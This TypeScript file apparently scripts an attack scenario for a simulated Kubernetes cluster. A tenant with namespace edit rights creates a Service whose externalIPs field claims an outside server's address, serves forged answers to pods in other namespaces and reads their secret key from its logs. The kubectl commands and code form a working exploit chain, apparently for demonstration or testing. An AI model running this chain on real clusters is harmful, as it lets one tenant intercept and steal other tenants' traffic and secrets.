import { createServer } from 'node:http';
import type { KubeObject } from '../../api/objects';
import type { Cluster } from '../cluster';
import { create } from '../conversations/admin-acts';
import type { Stage } from '../scenarios/stage';
import { clientOn } from './client-on';
import { playOf } from './play';

const TENANT = '/api/v1/namespaces/tenant';
/** A server of somebody else's, beside the cluster. */
const OUTSIDE = '10.0.0.80';
const PAGE = '/usr/share/nginx/html/balance';

export const externalIps = playOf({
  steps: [
    'admin: kubectl create rolebinding dev -n tenant --clusterrole=edit …',
    'tenant: kubectl run trap --image=nginx && kubectl exec trap -- sh -c "echo … > /usr/share/nginx/html/balance"',
    'tenant: kubectl expose pod trap --port=80 --external-ip=10.0.0.80',
    'default/box: curl -s -S -m 5 http://10.0.0.80/balance?key=WORD',
    'tenant: kubectl logs trap',
  ],
  async play(stage) {
    const cluster = await stage.cluster();
    const { signal } = stage;
    const [genuine, forged, key] = [word(stage, 'genuine'), word(stage, 'forged'), word(stage, 'key')];
    await startOutside(stage, cluster, genuine);
    await using tenant = clientOn(cluster.attackerHost, cluster, { token: await tenantToken(cluster) });
    await stage.did(
      'admin',
      'kubectl create rolebinding dev -n tenant --clusterrole=edit …',
      'the tenant may edit its namespace',
    );

    await create(tenant, `${TENANT}/pods`, trapPod);
    await cluster.whenRunning('node-2', 'tenant', 'trap');
    const write = ['sh', '-c', `echo ${forged} > ${PAGE}`];
    const written = await tenant.exec({
      namespace: 'tenant',
      pod: 'trap',
      container: 'trap',
      command: write,
      signal,
    });
    if (!written.ok) throw new Error(`the tenant could not set the trap: ${written.words}`);
    await stage.did(
      'tenant',
      `kubectl run trap --image=nginx && kubectl exec trap -- sh -c "echo … > ${PAGE}"`,
      'pod/trap runs on node-2',
    );

    const made = await tenant.request('POST', `${TENANT}/services`, { body: trapService, signal });
    const expose = `kubectl expose pod trap --port=80 --external-ip=${OUTSIDE}`;
    if (made.ok) {
      await stage.did('tenant', expose, 'service/trap exposed');
      await cluster.kubeProxies
        .get('node-1')
        ?.until((plan) => plan.some((it) => it.service === 'trap' && it.reachableEndpoints.length > 0));
    } else await stage.refused('tenant', expose, made.words);

    const box = cluster.container({ namespace: 'default', pod: 'box', container: 'box' });
    const command = `curl -s -S -m 5 http://${OUTSIDE}/balance?key=${key}`;
    const { stdout, stderr } = await box.run(['sh', '-c', command], signal);
    const answer = Buffer.concat([stdout, stderr]).toString('utf8').trim();
    if (answer.includes(forged)) {
      await stage.gained(
        'default/box',
        command,
        answer,
        'a pod of another namespace that takes its answer for that of the server outside',
      );
    } else await stage.did('default/box', command, answer);

    const logs = await tenant.logs({ namespace: 'tenant', pod: 'trap', signal });
    const request = logs.stdout
      .toString('utf8')
      .split('\n')
      .find((line) => line.includes(key));
    if (request !== undefined)
      await stage.gained('tenant', 'kubectl logs trap', request, 'the request, with the key in it');
    else await stage.did('tenant', 'kubectl logs trap', 'nobody has asked');
  },
});

function word(stage: Stage, what: string): string {
  return `${what}-${stage.random.hex(6)}`;
}

async function startOutside(stage: Stage, { fabric }: Cluster, balance: string): Promise<void> {
  const host = fabric.addHost({ name: 'outside', addresses: [`${OUTSIDE}/24`] });
  const http = createServer((_request, response) => response.end(`${balance}\n`));
  stage.closeLater(
    await host.listen({ address: OUTSIDE, port: 80 }, ({ socket }) => void http.emit('connection', socket)),
  );
}

/** Of somebody who may edit one namespace. */
async function tenantToken({ admin }: Cluster): Promise<string> {
  const metadata = { name: 'dev', namespace: 'tenant' };
  await create(admin, '/api/v1/namespaces', {
    apiVersion: 'v1',
    kind: 'Namespace',
    metadata: { name: 'tenant' },
  });
  await create(admin, `${TENANT}/serviceaccounts`, { apiVersion: 'v1', kind: 'ServiceAccount', metadata });
  await create(admin, '/apis/rbac.authorization.k8s.io/v1/namespaces/tenant/rolebindings', {
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'RoleBinding',
    metadata,
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'edit' },
    subjects: [{ kind: 'ServiceAccount', ...metadata }],
  } as KubeObject);
  const body = { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} };
  const answer = await admin.request('POST', `${TENANT}/serviceaccounts/dev/token`, { body });
  const token = (answer.json() as { status?: { token?: string } } | null)?.status?.token;
  if (token === undefined) throw new Error(`no token for the tenant: ${answer.words}`);
  return token;
}

const trapPod: KubeObject = {
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'trap', namespace: 'tenant', labels: { run: 'trap' } },
  spec: { nodeName: 'node-2', serviceAccountName: 'dev', containers: [{ name: 'trap', image: 'nginx' }] },
} as KubeObject;

const trapService = {
  apiVersion: 'v1',
  kind: 'Service',
  metadata: { name: 'trap', namespace: 'tenant' },
  spec: { selector: { run: 'trap' }, ports: [{ port: 80 }], externalIPs: [OUTSIDE] },
};
